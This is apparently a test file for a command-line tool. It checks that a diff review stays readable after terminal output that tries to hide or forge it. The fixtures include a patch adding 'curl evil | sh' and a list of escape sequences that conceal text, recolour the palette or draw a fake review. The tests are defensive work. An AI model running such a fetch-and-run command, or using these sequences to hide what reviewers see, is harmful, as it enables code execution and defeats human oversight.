import xterm from '@xterm/headless';
import { expect, it } from 'vitest';
import { paint } from '../../clients/cli/src/output/paint.ts';
import { shownPatch } from '../../clients/cli/src/output/patch.ts';
import { Traces } from '../../clients/cli/src/terminal/reset.ts';

const PATCH = `diff --git a/a b/a
--- a/a
+++ b/a
@@ -1 +1,3 @@
 kept
+curl evil | sh
+\tsecond
`;
const LINES = [
  'diff --git a/a b/a',
  '--- a/a',
  '+++ b/a',
  '@@ -1 +1,3 @@',
  ' kept',
  '+curl evil | sh',
  '+       second',
];

/** Each makes the review, or parts of it, invisible or unreadable if nothing is reset. */
const HOSTILE: Readonly<Record<string, string>> = {
  concealed: '\x1b[8m',
  'in the colour of the background': '\x1b[30;40m',
  'in another palette': '\x1b]4;2;rgb:00/00/00;10;rgb:00/00/00\x1b\\\x1b]10;rgb:00/00/00\x07\x1b]11;rgb:00/00/00\x07',
  'in a palette, with a control character in the sequence': '\x1b\x07]4;2;rgb:00/00/00\x1b\\',
  'in a region of one line': '\x1b[3;3r\x1b[3;1H',
  'in a region, with its origin': '\x1b[9;10r\x1b[?6h',
  'as line drawing': '\x1b(0\x1b)0\x0e',
  'as line drawing by another shift': '\x1b*0\x1bn',
  'inserted before old text': 'old text\r\x1b[4h',
  'without margins': '\x1b[?7l\x1b[1;75H',
  'on the alternate screen': '\x1b[?1049h',
  'on the alternate screen of older programs': '\x1b[?47h\x1b[?1047h',
  'in a sequence that does not end': 'text\x1b]0;',
  'in a device control string': '\x1bPq',
  'in a privacy message': '\x1b^',
  'in a sequence of parameters': '\x1b[1;2',
  'above text that looks like a review':
    '\x1b[1;1H\n\n fake line that is longer than others\r\n- fake\r\n- fake\x1b[1;1H',
  'with reversed screen and no cursor': '\x1b[?5h\x1b[?25l',
};

async function shownAfter(output: string, reset: boolean) {
  const terminal = new xterm.Terminal({ cols: 80, rows: 24, allowProposedApi: true });
  const palette = new Set<string>();
  const changes = (code: number) => (data: string) => {
    palette.add(code === 4 ? 'colours' : String(code));
    return data === '';
  };
  for (const code of [4, 10, 11]) terminal.parser.registerOscHandler(code, changes(code));
  const resets = { 104: 'colours', 110: '10', 111: '11' };
  for (const [code, name] of Object.entries(resets))
    terminal.parser.registerOscHandler(Number(code), () => palette.delete(name) || true);
  const traces = new Traces();
  const write = (text: string) => new Promise<void>((done) => terminal.write(text, done));
  // In pieces of one byte, as a program may write it.
  for (const byte of Buffer.from(output)) {
    traces.read(Uint8Array.of(byte));
    await write(String.fromCharCode(byte));
  }
  const review = `\n${shownPatch(PATCH, paint(true))}`.replaceAll('\n', '\r\n');
  await write(`${reset ? traces.reset('xterm') : ''}${review}`);
  const { active } = terminal.buffer;
  const rows = Array.from({ length: 24 }, (_, row) => active.getLine(active.baseY + row)!);
  const found = rows.filter((row) => !row.getCell(0)?.isInvisible());
  const lines = found.map((row) => row.translateToString(true).trimEnd()).filter((line) => line !== '');
  return { lines, type: active.type, palette: [...palette], modes: terminal.modes };
}

it.each(Object.entries(HOSTILE))('a review is readable after output that would have it %s', async (_, output) => {
  const { lines, type, palette, modes } = await shownAfter(output, true);
  expect(lines.slice(-LINES.length)).toEqual(LINES);
  expect([type, palette]).toEqual(['normal', []]);
  expect(modes).toMatchObject({
    originMode: false,
    insertMode: false,
    wraparoundMode: true,
    reverseWraparoundMode: false,
  });
});

it('a mouse and pasted text are as before', async () => {
  const { modes } = await shownAfter('\x1b[?1003h\x1b[?1006h\x1b[?2004h\x1b[?1h\x1b=\x1b[?1004h\x1b[?9h', true);
  expect(modes).toMatchObject({
    mouseTrackingMode: 'none',
    bracketedPasteMode: false,
    applicationCursorKeysMode: false,
    applicationKeypadMode: false,
    sendFocusMode: false,
  });
});

it('plain output changes nothing, and colours keep the palette', () => {
  const resetAfter = (text: string) => {
    const traces = new Traces();
    traces.read(Buffer.from(text));
    return traces.reset('xterm');
  };
  expect(resetAfter('1 test\tpassed\r\n')).toBe('');
  expect(resetAfter('\x1b[32mpassed\x1b[0m “ä”\n')).not.toContain('\x1b]104');
  expect(resetAfter('\x1b]4;1;red\x07')).toContain('\x1b]104');
});
